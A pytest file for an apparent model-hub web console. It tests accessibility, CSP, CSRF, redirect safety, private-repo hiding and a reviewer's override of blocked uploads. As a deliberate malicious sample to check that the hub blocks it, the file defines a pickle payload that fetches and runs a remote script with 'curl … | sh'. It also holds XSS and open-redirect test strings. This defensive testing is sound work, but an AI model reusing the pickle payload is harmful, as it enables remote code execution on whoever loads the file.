# SPDX-License-Identifier: Apache-2.0
"""The console in headless Chromium: a person's way through it, axe-core on every page, and what must not be seen."""
import json
import os
import pickle
import re
import shutil
import subprocess
import time
import urllib.parse

import pytest
from conftest import ROOT

PASSWORD = "correct horse battery"
MODULES = ROOT / "build" / "npm"

pytestmark = pytest.mark.skipif(not os.path.exists("/usr/bin/chromium"), reason="needs Debian's chromium")


@pytest.fixture(scope="session")
def modules():
    """playwright-core and axe-core from npm, installed once under build/."""
    if not (MODULES / "node_modules" / "axe-core").exists() or not (MODULES / "node_modules" / "playwright-core").exists():
        MODULES.mkdir(parents=True, exist_ok=True)
        (MODULES / "package.json").write_text('{"name":"console-tests","private":true}\n')
        subprocess.run(["npm", "install", "--no-audit", "--no-fund", "--silent", "playwright-core", "axe-core"], cwd=MODULES, check=True, timeout=240)
    return MODULES


def person(s, name, *flags):
    s.cli("user", "add", name, "--password-stdin", *flags, stdin=PASSWORD + "\n")
    s.tokens[name] = s.token(name, "write")


class Evil:
    def __reduce__(self):
        return os.system, ("curl http://203.0.113.9/x | sh",)


CARD = """---
license: apache-2.0
pipeline_tag: text-generation
---
# A small model

It answers short questions. <script>alert(1)</script> [bad](javascript:alert(1)) [notes](docs/notes.md)

| a | b |
|---|---|
| 1 | 2 |
"""


CONFIG = """
engines:
  - name: talking
    argv: [python3, "%s", "{model}", "{port}"]
    formats: [csv]
    stop_timeout_s: 2
""" % (ROOT / "test/e2e/talking_engine.py")


@pytest.fixture(scope="module")
def hub(make_server, tmp_path_factory):
    """A server with a good model, a blocked one, a dataset and a private one; its engine loads the csv file."""
    s = make_server(CONFIG)
    person(s, "root", "--admin", "--reviewer")
    person(s, "amy")
    person(s, "mallory")
    good = tmp_path_factory.mktemp("good")
    (good / "README.md").write_text(CARD)
    (good / "config.json").write_text(json.dumps({"architectures": ["LlamaForCausalLM"]}, indent=1))
    (good / "train.csv").write_text('q,a\n"x, y",z\n')
    (good / "docs").mkdir()
    (good / "docs" / "notes.md").write_text("# Notes\n\nBack to [the card](../README.md).\n")
    header = json.dumps({"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}).encode()
    (good / "model.safetensors").write_bytes(len(header).to_bytes(8, "little") + header + bytes(16))
    s.hf("amy", "upload", "amy/small", good)
    s.hf("amy", "upload", "amy/questions", good / "train.csv", "--repo-type", "dataset")
    bad = tmp_path_factory.mktemp("bad")
    (bad / "evil.bin").write_bytes(pickle.dumps(Evil()))
    (bad / "README.md").write_text("# Harmless\n")
    s.hf("mallory", "upload", "mallory/harmless", bad)
    s.hf("amy", "upload", "amy/hidden-thing", good / "config.json", "--private")
    s.wait_verdict("amy/small")
    s.wait_verdict("mallory/harmless")
    return s


def flow(modules, s, part, timeout=280, timeout_ms=20000, **opt):
    opt = dict(timeout=timeout_ms, modules=str(modules), user="amy", password=PASSWORD, good="amy/small", blocked="mallory/harmless", **opt)
    p = subprocess.run(["node", str(ROOT / "test/e2e/console_flow.mjs"), part, s.url, json.dumps(opt)], capture_output=True, text=True, timeout=timeout, cwd=ROOT)
    assert p.returncode == 0 and p.stdout.strip().endswith("ok"), p.stdout + p.stderr + "\n--- server:\n" + s.tail(2000)


def test_a_person_finds_out_why(modules, hub):
    """Sign-in, new token, browse, why blocked, keyboard, switches, sign-out."""
    flow(modules, hub, "browse")


def test_the_same_without_javascript(modules, hub):
    flow(modules, hub, "plain")


def test_deploy_and_chat(modules, hub):
    """From the repository's page to an answer in the playground, with what it took; then stop."""
    flow(modules, hub, "deploy", model="small", answer="Est vir qui adest.", timeout_ms=15000)


PAGES = """home	/	out
home-in	/	in
explore	/explore	out
explore-datasets	/explore?type=dataset&q=questions	out
explore-none	/explore?q=nothing-like-it	out
card	/amy/small	in
files	/amy/small/tree/main	in
folder	/amy/small/tree/main/docs	in
file-text	/amy/small/blob/main/config.json	in
file-markdown	/amy/small/blob/main/docs/notes.md	in
file-tensors	/amy/small/blob/main/model.safetensors	in
file-table	/datasets/amy/questions/blob/main/train.csv	in
file-blocked	/mallory/harmless/blob/main/evil.bin	in
history	/amy/small/commits/main	in
review	/amy/small/review/main	in
review-blocked	/mallory/harmless/review/main	in
use	/amy/small/use/main	in
settings	/amy/small/settings	in
owner	/amy	in
new	/new	in
new-org	/new/org	in
sign-in	/sign-in	out
sign-in-needed	/settings/tokens	out
tokens	/settings/tokens	in
sessions	/settings/sessions	in
profile	/settings/profile	in
deployments	/deployments	in
deploy-new	/deployments/new?repo=amy/small	in
playground	/playground	in
activity	/activity	in
event	/activity/1	in
api	/docs/api	out
not-found	/amy/nothing	out
"""


# Each sweep takes a minute and a half: the gate does each language and each theme once, BALLAST_FULL=1 all four pairs.
@pytest.mark.parametrize("theme,lang", [("light", "en"), ("dark", "zh")] + ([("dark", "en"), ("light", "zh")] if os.environ.get("BALLAST_FULL") else []))
@pytest.mark.release_only
def test_axe_is_clean_and_nothing_scrolls_sideways(modules, hub, tmp_path, lang, theme):
    pages = tmp_path / "pages.tsv"
    pages.write_text(PAGES)
    p = subprocess.run(["node", "tools/screenshots.mjs", "--base", hub.url, "--user", "root", "--password", PASSWORD, "--pages", str(pages), "--langs", lang,
                        "--themes", theme, "--modules", str(modules), "--no-pictures"], capture_output=True, text=True, timeout=290, cwd=ROOT)
    rows = [json.loads(line) for line in p.stdout.splitlines() if line.startswith("{")]
    assert len(rows) == len(PAGES.splitlines()), p.stdout + p.stderr
    assert [r for r in rows if r["problems"]] == []


# --- without a browser -------------------------------------------------------------------------------------------


class Browser:
    """Just enough of one: cookies, forms with their token."""

    def __init__(self, s):
        self.s, self.cookies = s, {}

    def get(self, path, **headers):
        return self.send("GET", path, None, headers)

    def post(self, path, headers=None, **fields):
        return self.send("POST", path, urllib.parse.urlencode(fields).encode(), dict(headers or {}, **{"Content-Type": "application/x-www-form-urlencoded"}))

    def send(self, method, path, body, headers):
        headers = dict(headers, Cookie="; ".join("%s=%s" % kv for kv in self.cookies.items()))
        status, h, data = self.s.http(method, path, body=body, headers=headers)
        for line in h.get_all("Set-Cookie") or []:
            name, _, value = line.split(";")[0].partition("=")
            self.cookies[name] = value
        return status, h, data.decode(errors="replace")

    def sign_in(self, user):
        status, h, _ = self.post("/sign-in", user=user, password=PASSWORD, next="/")
        assert status == 303, status
        self.csrf = re.search(r'name="csrf" value="([^"]+)"', self.get("/")[2]).group(1)
        return self


def test_every_page_carries_the_policy(hub):
    for path in ("/", "/explore", "/amy/small", "/mallory/harmless/review/main", "/nothing/here", "/settings/tokens"):
        _, h, body = hub.http("GET", path)
        policy = h["Content-Security-Policy"]
        assert "default-src 'self'" in policy and "unsafe" not in policy, path
        assert h["X-Content-Type-Options"] == "nosniff"
        assert b"<script>" not in body and b" style=" not in body and b"javascript:" not in body, path


def test_forms_need_their_token(hub):
    b = Browser(hub).sign_in("amy")
    for path, fields in (("/settings/tokens", {"name": "x", "role": "read", "expires": "30"}), ("/new", {"type": "model", "owner": "amy", "name": "forged"}),
                         ("/amy/small/settings", {"do": "delete", "confirm": "amy/small"})):
        assert b.post(path, **fields)[0] == 403, path
        assert b.post(path, csrf="0" * 40, **fields)[0] == 403, path
    assert hub.http("GET", "/amy/small")[0] == 200
    assert hub.http("GET", "/amy/forged")[0] == 404


def test_next_never_leaves_the_site(hub):
    for evil in ("//evil.example", "https://evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example", "javascript:alert(1)"):
        status, h, _ = Browser(hub).post("/sign-in", user="amy", password=PASSWORD, next=evil)
        assert status == 303 and urllib.parse.urljoin(hub.url, h["Location"]) == hub.url + "/", evil
        status, h, _ = Browser(hub).post("/theme", theme="dark", next=evil)
        assert urllib.parse.urljoin(hub.url, h["Location"]) == hub.url + "/", evil


def test_private_things_are_nowhere(hub):
    stranger, other, owner = Browser(hub), Browser(hub).sign_in("mallory"), Browser(hub).sign_in("amy")
    for path in ("/", "/explore", "/explore?q=hidden", "/amy", "/activity", "/activity?repo=amy/hidden-thing"):
        for b in (stranger, other):
            page = b.get(path)[2].replace('value="hidden"', "").replace('value="amy/hidden-thing"', "").replace("“hidden”", "").replace("?repo=amy/hidden-thing", "")
            assert "hidden-thing" not in page.replace("repo%3Damy%2Fhidden-thing", ""), path
    for tail in ("", "/tree/main", "/review/main", "/commits/main", "/settings", "/use/main", "/blob/main/config.json"):
        assert stranger.get("/amy/hidden-thing" + tail)[0] in (401, 404)
        assert other.get("/amy/hidden-thing" + tail)[0] == 404
        assert owner.get("/amy/hidden-thing" + tail)[0] == 200, tail
    events = re.findall(r'href="(/activity/\d+)"', owner.get("/activity?repo=amy/hidden-thing")[2])
    assert events
    for e in events:
        assert owner.get(e)[0] == 200 and stranger.get(e)[0] == 404 and other.get(e)[0] == 404


def test_language_follows_account_then_switch_then_browser(hub):
    b = Browser(hub)
    assert 'lang="en"' in b.get("/explore", **{"Accept-Language": "en-GB"})[2]
    assert 'lang="zh-CN"' in b.get("/explore", **{"Accept-Language": "zh-CN,zh;q=0.9"})[2]
    status, h, _ = b.post("/language", lang="zh", next="/explore?q=a&type=dataset")
    assert status == 303 and h["Location"].endswith("/explore?q=a&type=dataset")
    assert 'lang="zh-CN"' in b.get("/explore", **{"Accept-Language": "en"})[2]
    b.sign_in("mallory")
    assert b.post("/settings/profile", csrf=b.csrf, do="lang", lang="en")[0] == 303
    assert 'lang="en"' in b.get("/explore", **{"Accept-Language": "zh-CN"})[2]
    assert b.post("/settings/profile", csrf=b.csrf, do="lang", lang="")[0] == 303
    assert 'lang="zh-CN"' in b.get("/explore")[2]


def test_a_reviewer_overrides_with_a_reason(hub, tmp_path):
    (tmp_path / "tool.bin").write_bytes(pickle.dumps(Evil()))
    hub.hf("mallory", "upload", "mallory/appeal", tmp_path)
    hub.wait_verdict("mallory/appeal")
    root, amy = Browser(hub).sign_in("root"), Browser(hub).sign_in("amy")
    page = root.get("/mallory/appeal/review/main")[2]
    oid = re.search(r'name="oid" value="([0-9a-f]+)"', page).group(1)
    fields = {"oid": oid, "verdict": "notice", "reason": "looked at it by hand", "next": "/mallory/appeal/review/main"}
    assert amy.post("/mallory/appeal/review/main", csrf=amy.csrf, **fields)[0] == 403
    assert "Decide as a reviewer" not in amy.get("/mallory/appeal/review/main")[2]
    assert root.post("/mallory/appeal/review/main", csrf=root.csrf, **fields)[0] == 303
    end = time.time() + 20
    while "This revision is blocked" in root.get("/mallory/appeal/review/main")[2] and time.time() < end:
        time.sleep(0.2)
    page = root.get("/mallory/appeal/review/main")[2]
    assert "decided by a reviewer" in page and "looked at it by hand" in page
    assert "looked at it by hand" in root.get("/activity?kind=verdict.")[2]


def test_delete_names_what_it_destroys(hub, tmp_path):
    b = Browser(hub).sign_in("amy")
    assert b.post("/new", csrf=b.csrf, type="model", owner="amy", name="short-lived", private="0")[0] == 303
    page = b.get("/amy/short-lived/settings")[2]
    assert "This destroys amy/short-lived for good" in page
    status, _, page = b.post("/amy/short-lived/settings", csrf=b.csrf, do="delete", confirm="amy/other")
    assert status == 422 and "Nothing was deleted" in page
    assert b.post("/amy/short-lived/settings", csrf=b.csrf, do="delete", confirm="amy/short-lived")[0] == 303
    assert b.get("/amy/short-lived")[0] == 404


def test_assets_are_cached_for_ever_and_small(hub):
    page = hub.http("GET", "/amy/small/review/main")[2]
    css = re.search(rb'href="(/assets/app\.[0-9a-f]{12}\.css)"', page).group(1).decode()
    _, h, body = hub.http("GET", css)
    assert "immutable" in h["Cache-Control"] and h["Content-Type"].startswith("text/css")
    assert len(page) + len(body) <= 60_000
    _, h, packed = hub.http("GET", css, headers={"Accept-Encoding": "gzip"})
    assert h["Content-Encoding"] == "gzip" and len(packed) < len(body) / 2
    assert hub.http("GET", "/assets/app.000000000000.css")[0] == 404


@pytest.mark.release_only
def test_pages_are_made_within_20_ms(hub):
    for path in ("/", "/explore", "/amy/small", "/amy/small/tree/main", "/mallory/harmless/review/main", "/activity"):
        times = []
        for _ in range(15):
            t = time.perf_counter()
            assert hub.http("GET", path)[0] == 200
            times.append(time.perf_counter() - t)
        assert sorted(times)[len(times) // 2] < 0.020, (path, sorted(times))


def test_uploads_through_the_card_cannot_name_other_hosts(hub):
    page = hub.http("GET", "/amy/small")[2].decode()
    card = page[page.index('<article class="md">'):page.index("</article>")]
    assert "alert(1)</script>" not in card and "javascript:" not in card
    assert 'href="/amy/small/blob/main/docs/notes.md"' in card


if shutil.which("node") is None:
    pytest.skip("node is not here", allow_module_level=True)
